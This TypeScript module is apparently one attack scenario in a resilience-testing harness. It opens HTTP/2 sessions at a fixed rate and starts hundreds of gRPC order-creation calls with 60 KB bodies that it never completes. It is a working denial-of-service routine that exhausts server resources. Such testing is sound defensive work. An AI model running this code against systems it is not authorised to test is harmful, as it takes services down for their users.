import { atRate } from '../at-rate.ts';
import type { Attack } from '../attack.ts';
import { hostileSession } from '../hostile-connections.ts';

const CONNECTIONS_A_SECOND = 10;
const CALLS_EACH = 200;
const SENT_BYTES = 60_000;
const CREATE_ORDER = '/orders.v1.OrderService/CreateOrder';

export const incompleteCalls: Attack = {
  name: 'incomplete-calls',
  does: `begins ${CONNECTIONS_A_SECOND * CALLS_EACH} gRPC calls of 60 KB a second, and ends none of them`,
  async run(scene) {
    const message = Buffer.alloc(SENT_BYTES);
    message.writeUInt32BE(SENT_BYTES, 1);
    await atRate(scene, { perSecond: CONNECTIONS_A_SECOND, maxInFlight: 1_000 }, async () => {
      const session = hostileSession(scene, 0);
      for (let call = 0; call < CALLS_EACH; call += 1) {
        scene.tally.sent();
        const stream = session.request({
          ':method': 'POST',
          ':path': CREATE_ORDER,
          'content-type': 'application/grpc',
          te: 'trailers',
        });
        stream.on('error', () => scene.tally.answered('reset'));
        stream.write(message);
      }
      await new Promise<void>((resolve) => {
        session.on('close', () => resolve());
        scene.signal.addEventListener('abort', () => session.destroy(), { once: true });
      });
    });
  },
};
